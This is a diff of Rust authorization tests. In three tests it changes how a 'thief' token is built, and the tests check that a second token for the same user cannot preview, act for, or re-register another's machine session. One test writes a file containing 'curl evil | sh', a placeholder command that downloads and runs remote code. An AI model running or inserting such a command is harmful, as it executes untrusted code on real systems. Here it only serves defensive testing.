@@ -12,7 +12,7 @@ async fn another_token_cannot_show_a_preview_for_a_machine(
 ) {
     let server = start(backend).await;
     let mut desk = Desk::new(server.user("ann")).await;
-    let thief = server.user_with("ann", &["--role", "client"]);
+    let thief = server.program("ann", "client", &desk.project);
     assert_eq!(thief.claims()["sub"], desk.user.claims()["sub"]);
     let call =
         desk.execute("write_file", json!({"path": "a.sh", "content": "curl evil | sh\n"})).await;
@@ -38,7 +38,7 @@ async fn another_token_cannot_show_a_preview_for_a_machine(
 async fn another_token_cannot_act_for_a_machine(#[values(Sqlite, Postgres)] backend: Backend) {
     let server = start(backend).await;
     let mut desk = Desk::new(server.user("ann")).await;
-    let thief = server.user_with("ann", &["--role", "client"]);
+    let thief = server.program("ann", "client", &desk.project);
     let call = desk.execute("read_file", json!({"path": "a"})).await;
     let signal = desk.until("TOOL_EXECUTION_SIGNAL").await;
     let tool = desk.path(&format!("tools/{}", id(&call)));
@@ -70,7 +70,7 @@ async fn registration_belongs_to_its_token(#[values(Sqlite, Postgres)] backend: 
     let desk = Desk::new(server.user("ann")).await;
     let call = desk.execute("create_directory", json!({"path": "d"})).await;
     desk.decide(&call, "approve", json!({"scope": "class"})).await.expect(200);
-    let thief = server.user_with("ann", &["--role", "client"]);
+    let thief = server.program("ann", "client", &desk.project);
     let register = json!({
         "client_id": desk.client, "root": "/elsewhere", "os": "linux", "isolation": {}, "resumed": true,
     });
